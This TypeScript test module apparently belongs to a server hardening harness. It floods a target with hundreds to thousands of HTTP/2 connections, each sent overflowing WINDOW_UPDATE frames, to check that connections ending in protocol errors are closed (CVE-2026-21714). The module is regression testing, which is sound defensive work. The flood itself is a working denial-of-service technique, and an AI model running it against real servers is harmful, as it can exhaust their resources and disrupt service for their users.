import { encodeFrame, frameType, uint32 } from "../../support/raw-http2.ts";
import { becomesTrue } from "../../support/until.ts";
import type { Attack } from "../attack.ts";
import { AttackConnection } from "../attack-connection.ts";
import { descriptors } from "../process-figures.ts";

const overflow = Buffer.concat(
  [1, 2].map(() => encodeFrame(frameType.windowUpdate, 0, 0, uint32(0x7fffffff))),
);

export const attacks: readonly Attack[] = [
  {
    name: "connection-errors",
    shows: "connections that end in a protocol error are closed (CVE-2026-21714)",
    async run(target, scale, held) {
      const count = scale.full ? 2000 : 300;
      const before = descriptors(target.pid);
      const all: AttackConnection[] = [];
      for (let index = 0; index < count; index += 1) {
        const connection = await AttackConnection.open(target, held, { read: index % 2 === 0 });
        if (connection === undefined) continue;
        all.push(connection);
        await connection.flood(overflow);
      }
      // The clients keep their ends open.
      const left = () => Math.max(0, descriptors(target.pid) - before);
      const released = await becomesTrue(() => left() < count / 10);
      const failures = [
        ...(released ? [] : [`${left()} of ${count} connections are still open`]),
        ...(all.length < count ? [`only ${all.length} connections were accepted`] : []),
      ];
      return { summary: `${all.length} connections in error, ${left()} still open`, failures };
    },
  },
];
